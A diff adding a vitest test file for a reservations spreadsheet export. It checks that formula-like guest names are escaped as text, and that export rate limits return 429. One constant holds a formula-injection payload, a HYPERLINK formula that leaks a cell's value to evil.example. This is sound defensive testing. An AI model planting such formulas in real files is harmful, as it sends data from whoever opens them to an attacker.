@@ -1,0 +1,94 @@
+import pg from 'pg';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import * as XLSX from 'xlsx';
+import { addDays, todayInSeoul } from '@shim/common/dates';
+import { CONSOLE_MESSAGES } from '@shim/common/console-messages';
+import { startTestApp, type TestApp } from '../../../test/harness';
+import { createUser, loginAs } from '../../../test/fixtures';
+import { book, bookingScenario } from '../../../test/booking-fixtures';
+import { exportQueueCounts } from '../../platform/spreadsheets';
+import { Reservation } from './reservation.entity';
+
+/** One export per manager and two in the process, so the third caller meets each limit. */
+let app: TestApp;
+let tokens: { a: string; b: string; c: string };
+let reservationId: number;
+const PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
+const period = `from=${todayInSeoul()}&to=${addDays(todayInSeoul(), 30)}`;
+
+beforeAll(async () => {
+  app = await startTestApp({ EXPORTS_PER_USER: '1', EXPORTS_MAX_IN_FLIGHT: '2' });
+  const [a, b, c] = await Promise.all(['A', 'B', 'C'].map((n) => createUser(app.orm, 'ROLE_MANAGER', { name: n })));
+  tokens = {
+    a: (await loginAs(app, a!.email)).accessToken,
+    b: (await loginAs(app, b!.email)).accessToken,
+    c: (await loginAs(app, c!.email)).accessToken,
+  };
+  const s = await bookingScenario(app, { basePrice: 80_000, unitCount: 2 }, { manager: a!, name: '-마이너스 호텔' });
+  const guest = await book(app, s.body(3, 1, { phone: '01012345678', guestName: '박비회' }));
+  reservationId = guest.prepared.reservationId;
+  // The name as an older client or an import may have stored it (today's form allows letters only).
+  await app.orm.em.fork().nativeUpdate(Reservation, { id: reservationId }, { guestName: PAYLOAD });
+});
+afterAll(() => app.close());
+
+const exportOf = (token: string) =>
+  fetch(`${app.url}/api/manager/reservations/export.xlsx?${period}`, { headers: { authorization: `Bearer ${token}` } });
+
+const until = async (ready: () => boolean) => {
+  while (!ready()) await new Promise((resolve) => setTimeout(resolve, 5));
+};
+
+describe('GET /api/manager/reservations/export.xlsx', () => {
+  it('writes a guest or lodging name that reads as a formula as plain text starting with an apostrophe', async () => {
+    const response = await exportOf(tokens.a);
+    expect(response.status).toBe(200);
+    const book = XLSX.read(Buffer.from(await response.arrayBuffer()), { cellFormula: true });
+    const sheet = book.Sheets[book.SheetNames[0]!]!;
+    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet);
+    expect(rows).toHaveLength(1);
+    expect(rows[0]).toMatchObject({ 예약번호: reservationId, 예약자: `'${PAYLOAD}`, 숙소: "'-마이너스 호텔" });
+    const guestCell = sheet['D2'] as XLSX.CellObject;
+    expect(guestCell).toMatchObject({ t: 's', v: `'${PAYLOAD}` });
+    expect(guestCell.f).toBeUndefined();
+    expect(sheet['A2']).toMatchObject({ t: 'n', v: reservationId });
+  });
+
+  it('admits one export per user and two per process; beyond, 429 with Retry-After; /readyz answers meanwhile', async () => {
+    // Held in their read of the bookings, the first two exports stay in flight until the lock is let go.
+    const lock = new pg.Client({ connectionString: app.config.DATABASE_URL });
+    await lock.connect();
+    await lock.query('begin');
+    await lock.query('lock table reservations in access exclusive mode');
+    try {
+      const first = exportOf(tokens.a);
+      await until(() => exportQueueCounts().inFlight === 1);
+      const again = await exportOf(tokens.a);
+      expect(again.status).toBe(429);
+      expect(again.headers.get('retry-after')).toMatch(/^[1-9]\d*$/);
+      expect(await again.json()).toEqual({ message: CONSOLE_MESSAGES.exportAlreadyRunning });
+
+      const second = exportOf(tokens.b);
+      await until(() => exportQueueCounts().inFlight === 2);
+      const third = await exportOf(tokens.c);
+      expect(third.status).toBe(429);
+      expect(third.headers.get('retry-after')).toMatch(/^[1-9]\d*$/);
+      expect(await third.json()).toEqual({ message: CONSOLE_MESSAGES.exportsBusy });
+      expect((await fetch(`${app.url}/readyz`)).status).toBe(200);
+
+      await lock.query('rollback');
+      const [a, b] = await Promise.all([first, second]);
+      expect([a.status, b.status]).toEqual([200, 200]);
+      const rowsOf = async (response: Response) => {
+        const book = XLSX.read(Buffer.from(await response.arrayBuffer()));
+        return XLSX.utils.sheet_to_json(book.Sheets[book.SheetNames[0]!]!);
+      };
+      expect(await rowsOf(a)).toHaveLength(1);
+      expect(await rowsOf(b)).toEqual([]);
+    } finally {
+      await lock.end();
+    }
+    expect(exportQueueCounts()).toEqual({ inFlight: 0, waiting: 0, building: 0 });
+    expect((await exportOf(tokens.c)).status).toBe(200);
+  });
+});
